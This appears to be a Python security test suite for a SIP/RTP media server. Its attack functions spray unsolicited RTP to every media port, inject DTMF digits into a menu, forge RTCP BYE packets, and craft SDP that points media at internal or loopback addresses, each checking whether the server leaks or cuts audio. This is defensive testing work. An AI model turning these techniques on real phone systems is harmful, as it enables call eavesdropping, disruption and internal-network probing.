"""RTP and RTCP from unannounced addresses, to every media port of the server."""

import contextlib
import struct
import time

import sip
import sound
import world as worlds
from attack import attack, ears, talk

DROPPED = ("b2b_media_dropped_total",)


def spray(world, ear, who, times=1, odd=0, make=None):
    """Sends a packet to every even media port of the server, this often; `ear` counts the answers."""
    for number in range(times):
        octets = make(number) if make else sound.packet(who, number, ear.ssrc)
        for port in world.ports:
            with contextlib.suppress(OSError):
                ear.socket.sendto(octets, (world.media, port + odd))
            if port % 64 == 0:
                time.sleep(0.001)


class Victims:
    """Two users, one of whom calls the other; `nat`: the caller's SDP names an address of its own network."""

    def __init__(self, one, world, nat=True):
        self.one, self.world, self.nat = one, world, nat
        # Packets of the second party that the first one could not hear.
        self.early = 0

    def __enter__(self):
        one, world = self.one, self.world
        self.stack = contextlib.ExitStack()
        places = (one.other(world), one.who(5)), (one.other(world), one.who(6)), (one.source(world), one.who(0))
        self.first, self.second, self.thief = self.stack.enter_context(ears(*places))
        more = {"sdp_ip": "10.11.12.13"} if self.nat else {}
        self.caller = self.stack.enter_context(one.victim(world, 5, media_port=self.first.port, **more))
        self.callee = self.stack.enter_context(one.victim(world, 6, media_port=self.second.port))
        for phone in (self.caller, self.callee):
            phone.register()
        return self

    def __exit__(self, *_):
        self.stack.close()

    def call(self):
        """Both ends of it."""
        call = self.caller.call(self.one.number(6))
        other = self.callee.next_call()
        if call.status != 200 or not other:
            raise RuntimeError(f"no call: {call.status}")
        return call, other

    def stolen(self):
        """What the attacker heard of anybody, including honest calls; what each party heard of the other, and of the
        attacker."""
        one = self.one
        heard = self.thief.all
        spoken = self.first.count(one.who(0)) + self.second.count(one.who(0))
        return heard, self.first.count(one.who(6)), self.second.count(one.who(5)), spoken

    def verdict(self, share=0.6):
        """The attacker wins if it hears, is heard, or blocks the others' audio: they hear `share` of what was sent."""
        heard, first, second, spoken = self.stolen()
        words = f"thief heard {heard}, caller {first} of {self.second.sent}, callee {second} of {self.first.sent}"
        cut = first < share * (self.second.sent - self.early) or second < share * self.first.sent
        return heard > 5 or spoken > 5 or cut, words + (f", both heard {spoken} from the thief" if spoken else "")


@attack("rtp-early", "H2", "one packet to each port between 183 and the answer; the caller is behind NAT", counters=DROPPED)
def rtp_early(one, world):
    with Victims(one, world) as them:
        def progress(phone, invite):
            phone.ring(invite, 183, phone.session())
            them.second.talk(invite.media())
            spray(world, them.thief, one.who(0))
            time.sleep(2.5)
            them.early = them.second.sent
            phone.answer(invite)

        them.callee.on_invite = progress
        # Early media cannot reach a party behind NAT that has sent nothing.
        call = them.caller.call(one.number(6), patience=10)
        if call.status != 200:
            raise RuntimeError(f"no call: {call.status}")
        them.first.talk(call.media())
        time.sleep(2)
        call.bye()
        return them.verdict(share=0.3)


@attack("rtp-ringing", "H2", "two packets to each port while the callee rings; the caller is behind NAT", held=True, counters=DROPPED)
def rtp_ringing(one, world):
    with Victims(one, world) as them:
        def rings(phone, invite):
            phone.ring(invite)
            spray(world, them.thief, one.who(0), 2)
            time.sleep(0.5)
            phone.answer(invite)

        them.callee.on_invite = rings
        call, other = them.call()
        talk(them.first, call, them.second, other)
        time.sleep(2)
        call.bye()
        return them.verdict()


@attack("rtp-answer", "H2", "one packet to each port between the answer and the first packet; the caller is behind NAT",
        counters=DROPPED)
def rtp_answer(one, world):
    with Victims(one, world) as them:
        call, other = them.call()
        spray(world, them.thief, one.who(0), 2)
        talk(them.first, call, them.second, other)
        time.sleep(3)
        call.bye()
        return them.verdict()


@attack("rtp-cut", "H2", "public parties: six packets to each port before the first RTP, then ten a second",
        counters=DROPPED)
def rtp_cut(one, world):
    with Victims(one, world, nat=False) as them:
        call, other = them.call()
        spray(world, them.thief, one.who(0), 6)
        talk(them.first, call, them.second, other)
        for number in range(6, 31):
            for at in (call.media(), other.media()):
                with contextlib.suppress(OSError):
                    them.thief.socket.sendto(sound.packet(one.who(0), number, them.thief.ssrc), at)
            time.sleep(0.1)
        call.bye()
        return them.verdict()


@attack("rtp-reinvite", "H2", "packets to every port while the caller, behind NAT, holds and resumes",
        counters=DROPPED)
def rtp_reinvite(one, world):
    with Victims(one, world) as them:
        call, other = them.call()
        talk(them.first, call, them.second, other)
        time.sleep(0.5)
        for direction in ("sendonly", "sendrecv"):
            them.first.talk(None)
            body = them.caller.session(direction=direction).replace(" 1 IN IP4", f" {call.cseq} IN IP4", 1)
            call.answer = call.send("INVITE", body=body) or call.answer
            call.ack()
            spray(world, them.thief, one.who(0))
            them.first.talk(call.media())
            time.sleep(1)
        call.bye()
        return them.verdict(share=0.3)


@attack("rtp-during", "H2", "packets to every port, ten times, while two parties talk", held=True, counters=DROPPED)
def rtp_during(one, world):
    with Victims(one, world) as them:
        call, other = them.call()
        talk(them.first, call, them.second, other)
        time.sleep(1)
        spray(world, them.thief, one.who(0), 10)
        time.sleep(1)
        call.bye()
        return them.verdict()


@attack("rtp-digits", "Found later 7", "digit 7 by RFC 4733 to every port before a caller's first packet, into a menu",
        counters=DROPPED)
def rtp_digits(one, world):
    with Victims(one, world) as them, one.attacker(world, 0) as gift:
        gift.register()
        call = them.caller.call(f"81{one.place:02d}")
        if call.status != 200:
            raise RuntimeError(f"no call: {call.status}")
        for turn in range(3):
            spray(world, them.thief, one.who(0), 1, make=lambda _: sound.event("7", turn, 0, them.thief.ssrc, turn == 2))
        came = gift.until(lambda: gift.heard("INVITE"), 3)
        call.bye()
        return came, "the menu followed the stranger's digit" if came else "the menu received nothing"


@attack("rtcp-bye", "H2", "RTCP BYE with the thief's SSRC, and with the caller's, to every odd port", held=True)
def rtcp_bye(one, world):
    with Victims(one, world, nat=False) as them:
        call, other = them.call()
        talk(them.first, call, them.second, other)
        time.sleep(0.5)
        for ssrc in (them.thief.ssrc, them.first.ssrc):
            bye = struct.pack("!BBHII", 0x80, 201, 1, ssrc, 0)[:8] + struct.pack("!BBHI", 0x81, 203, 1, ssrc)
            for odd in (1, 0):
                spray(world, them.thief, 0, odd=odd, make=lambda _: bye)
        before = them.stolen()
        time.sleep(1)
        _, first, second, _ = them.stolen()
        cut = call.ended.is_set() or other.ended.is_set() or first - before[1] < 25 or second - before[2] < 25
        call.bye()
        return cut, "the call was cut" if cut else "the call continued"


def unasked(one, world, *places):
    """A call of the attacker for each address, which its SDP names: what comes there."""
    with contextlib.ExitStack() as stack:
        caller = stack.enter_context(one.attacker(world, 0))
        caller.register()
        heard = stack.enter_context(ears(*((ip, one.who(n)) for n, ip in enumerate(places))))
        calls = [caller.call("8200", body=sip.sdp(ip, ear.port)) for ip, ear in zip(places, heard) for _ in range(8)]
        if not all(call.status == 200 for call in calls):
            raise RuntimeError(f"calls: {[call.status for call in calls]}")
        time.sleep(3)
        for call in calls:
            call.bye()
        got = [f"{ear.all} packets ({ear.octets} octets) at {ip}" for ip, ear in zip(places, heard) if ear.all]
        return got, ", ".join(got) or f"nothing of {len(calls)} calls"


@attack("media-inside", "2nd M4", "SDP of a user who is not in `server.inside` names a host there", lan=True,
        lines={"server": ['inside = ["10.99.7.0/24"]']})
def media_inside(one, world):
    return unasked(one, world, worlds.INSIDE)


@attack("media-loopback", "2nd M5", "SDP of a user elsewhere names the server's loopback and its address", lan=True)
def media_loopback(one, world):
    return unasked(one, world, "127.0.0.1", world.at(1))


@attack("rtp-neighbour", "2nd M7", "RTP and digit 7 from a neighbour in the phone's /64 before its first packet, and after it",
        lan=True, counters=DROPPED)
def rtp_neighbour(one, world):
    home, neighbour = worlds.NEIGHBOURS
    with contextlib.ExitStack() as stack:
        first, thief = stack.enter_context(ears((home, one.who(5)), (neighbour, one.who(0))))
        caller = stack.enter_context(one.victim(world, 5, ip=home, media_port=first.port))
        gift = stack.enter_context(sip.Phone(world.server, one.source(world), world.gift, worlds.password(world.gift)))
        caller.register(), gift.register()
        call = caller.call(f"81{one.place:02d}")
        if call.status != 200:
            raise RuntimeError(f"no call: {call.status}")
        thief.talk(call.media())
        time.sleep(1)
        for turn in range(3):
            thief.socket.sendto(sound.event("7", turn, 0, thief.ssrc, turn == 2), call.media())
        time.sleep(0.5)
        first.talk(call.media())
        time.sleep(2)
        came = bool(gift.heard("INVITE"))
        call.bye()
        words = f"the neighbour heard {thief.all}, the phone {first.all} packets"
        return thief.all > 5 or came or first.all < 50, words + (", the menu followed its digit" if came else "")
